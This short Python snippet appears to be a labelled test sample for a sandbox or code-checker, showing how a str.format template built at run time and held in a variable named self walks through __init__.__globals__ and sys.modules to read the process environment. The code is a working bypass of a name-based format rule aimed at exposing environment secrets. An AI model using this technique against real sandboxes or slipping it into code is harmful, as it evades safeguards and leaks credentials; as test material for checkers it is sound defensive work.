# family: environment reads
# escape: the format rule trusts `self.<attr>.format` by the *name* self; a local variable called self holds an
# object whose template is built at run time, walking to the posix module's environ.
import json
import types

class Row:
    def __init__(self):
        self.cells = []

def tool(word: str = "globals") -> str:
    self = types.SimpleNamespace(template="{0.__init__.__" + word + "__[json].codecs.sys.modules[posix].environ}")
    return self.template.format(Row())
